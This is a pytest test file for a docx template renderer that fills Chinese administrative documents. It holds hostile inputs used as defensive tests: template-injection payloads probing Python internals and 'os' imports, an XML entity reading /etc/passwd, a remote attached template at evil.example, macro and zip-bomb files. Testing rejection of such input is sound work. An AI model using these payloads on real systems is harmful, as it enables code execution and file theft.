"""A filled template says what the facts say, whatever the facts look like."""

from __future__ import annotations

import io
import zipfile

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from tests.workflow.documents.papers import docx, repacked, said
from workflow.documents.render import (
    FieldsMissingError,
    TemplateUnfitError,
    TooMuchError,
    clean,
    field_names,
    render,
    render_draft,
)

PARTY = docx("当事人：{{ 当事人.名称 }}，案由：{{ 案件.案由 }}。")


def test_fields_are_filled_everywhere():
    template = docx(
        "当事人：{{ 当事人.名称 }}",
        "{% if 案件.已立案 %}已立案{% else %}未立案{% endif %}",
        header="{{ 文书.文号 }}",
        rows=[["姓名", "证号"], ["{%tr for 人 in 办案人员 %}", ""],
              ["{{ 人.姓名 }}", "{{ 人.证号 }}"],
              ["{%tr endfor %}", ""]],
    )  # fmt: skip
    people = [{"姓名": "甲", "证号": "1"}, {"姓名": "乙", "证号": "2"}]

    made = render(template, {
        "当事人": {"名称": "小星星玩具店"}, "案件": {"已立案": True}, "办案人员": people,
        "文书": {"文号": "东市监立〔2022〕1号"},
    })  # fmt: skip

    assert said(made) == ["当事人：小星星玩具店", "已立案", "姓名", "证号", "甲", "1", "乙", "2"]
    assert (
        "东市监立〔2022〕1号" in zipfile.ZipFile(io.BytesIO(made)).read("word/header1.xml").decode()
    )


@pytest.mark.parametrize("text", [
    "<w:p>&amp;\"'</w:t>", "{{ 7*7 }}", "{% for a in b %}", "{# x #}", "{_{ x }_}", "{%_ %_}",
    "]]>", "&#60;script&#62;", "{{ 当事人.名称 }}", "\\1 \\g<0>", "$x%s{0}",
])  # fmt: skip
def test_what_looks_like_markup_comes_out_as_it_was_typed(text):
    made = render(PARTY, {"当事人": {"名称": text}, "案件": {"案由": "甲"}})

    assert said(made) == [f"当事人：{text}，案由：甲。"]


def test_control_characters_are_left_out_and_lines_stay_lines():
    text = "甲\x00\x08\x0b\x0c\x1b乙\ufffe\r\n丙\t丁"

    made = render(PARTY, {"当事人": {"名称": text}, "案件": {"案由": "x"}})

    assert said(made) == ["当事人：甲乙\n丙\t丁，案由：x。"]


@given(st.text(max_size=60))
@example("\x85\u2028{{")
@settings(deadline=None, max_examples=40, suppress_health_check=[HealthCheck.too_slow])
def test_any_text_comes_out(text):
    made = render(PARTY, {"当事人": {"名称": f"[{text}]"}, "案件": {"案由": "x"}})

    assert said(made) == clean(f"当事人：[{text}]，案由：x。").split("\a")


def test_what_is_missing_is_named():
    context = {"当事人": {"名称": " "}, "案件": {}}

    with pytest.raises(FieldsMissingError) as refused:
        render(PARTY, context)
    made, missing = render_draft(PARTY, context)

    assert refused.value.names == ("当事人.名称", "案件.案由")
    assert missing == ["当事人.名称", "案件.案由"]
    assert said(made) == ["当事人：＿＿＿＿，案由：＿＿＿＿。"]


def test_a_field_may_be_optional():
    template = docx(
        "{{ 甲|default('／') }}{% if 乙.丙 %}{{ 乙.丙 }}{% endif %}{{ 丁.0 }}{{ 丁.1|d('无') }}"
    )

    assert said(render(template, {"甲": "", "乙": {"丙": ""}, "丁": {"0": 0}})) == ["／0无"]


def test_a_missing_part_of_a_list_is_named_by_its_list():
    template = docx("{% for 人 in 办案人员 %}{{ 人.证号 }}{% endfor %}{{ 无.此.项 }}")

    _made, missing = render_draft(template, {"办案人员": [{"姓名": "甲"}]})

    assert missing == ["办案人员.证号", "无.此.项"]


def test_too_much_is_refused():
    with pytest.raises(TooMuchError):
        render(PARTY, {"当事人": {"名称": "长" * 10_000_000}, "案件": {"案由": "x"}})


@pytest.mark.parametrize("text", [
    "{{ 甲.__class__ }}", "{{ 甲['__class__'] }}", "{{ ''.__class__.__mro__ }}", "{{ 甲() }}",
    "{{ 甲.format(乙) }}", "{% for x in range(9) %}{% endfor %}", "{% import 'os' as os %}",
    "{% set x = 1 %}", "{{ 'a' * 999999999 }}", "{{ 9 ** 9999 }}", "{{ 甲|safe }}",
    "{{ 甲|attr('x') }}", "{{ 甲|map('x')|list }}", "{{ 甲[乙] }}", "{{ '%s' % 甲 }}",
    "{% include 'x' %}", "{% macro m() %}{% endmacro %}", "{{ lipsum }}{{ 甲|lipsum }}",
    "{{ 甲 ", "{% if 甲 %}", "{% nonsense %}", "{{ }}", "{% for _x in 甲 %}{% endfor %}",
])  # fmt: skip
def test_what_is_unsafe_or_broken_is_refused_with_its_place(text):
    template = docx("第一行", f"此处 {text} 之后", "第三行")

    with pytest.raises(TemplateUnfitError) as refused:
        field_names(template)

    assert "此处" in refused.value.place
    with pytest.raises(TemplateUnfitError):
        render(template, {"甲": "x", "乙": "y"})


def test_attributes_of_values_are_no_fields():
    template = docx("{{ 甲.upper }}{{ 甲.字.join }}{{ loop }}")

    _made, missing = render_draft(template, {"甲": {"字": "x"}})

    assert missing == ["甲.upper", "join", "loop"]


def test_loops_end():
    deep = docx(
        "{% for a in x %}{% for b in x %}{% for c in x %}.{% endfor %}{% endfor %}{% endfor %}"
    )

    with pytest.raises(TemplateUnfitError):
        render(deep, {"x": list(range(1000))})
    with pytest.raises(TemplateUnfitError):
        render(docx("{% for a in x %}{% endfor %}"), {"x": "一段文字"})


def test_bad_files_are_refused():
    good = docx("{{ 甲 }}")
    rels = zipfile.ZipFile(io.BytesIO(good)).read("word/_rels/document.xml.rels").decode()
    outside = rels.replace(
        "</Relationships>",
        '<Relationship Id="rX" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm"'
        ' TargetMode="External"/></Relationships>',
    )
    entity = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
    bad = [
        b"", b"PK\x03\x04 no zip", b"%PDF-1.7", b"x" * 6_000_000, good[:-200],
        repacked(good, word__vbaProject__bin=b"x").replace(b"vbaProject/bin", b"vbaProject.bin"),
        repacked(good, word__embeddings__a=b"x"),
        repacked(good, **{"word/_rels/document.xml.rels": outside.encode()}),
        repacked(good, **{"word/document.xml": entity.encode()}),
        repacked(good, **{"word/document.xml": b"<w:document"}),
        repacked(good, **{"word/media/bomb.png": b"\0" * 40_000_000}),
        repacked(good, **{"word/document.xml": b" " * 4_000_000}),
    ]  # fmt: skip

    for content in bad:
        with pytest.raises(TemplateUnfitError):
            field_names(content)
        with pytest.raises(TemplateUnfitError):
            render(content, {"甲": "x"})
    assert field_names(good) == ["甲"]


def test_the_fields_of_a_template_are_known():
    template = docx(
        "{{ 案件.案由 }}{% if 当事人.是个人 %}{{ 当事人.姓名 }}{% endif %}",
        "{% for 人 in 办案人员 %}{{ loop.index }}{{ 人.姓名|default('无') }}{% endfor %}",
        header="{{ 文书.文号 }}",
    )

    assert field_names(template) == [
        "案件.案由", "当事人.是个人", "当事人.姓名", "办案人员", "办案人员.姓名", "文书.文号",
    ]  # fmt: skip
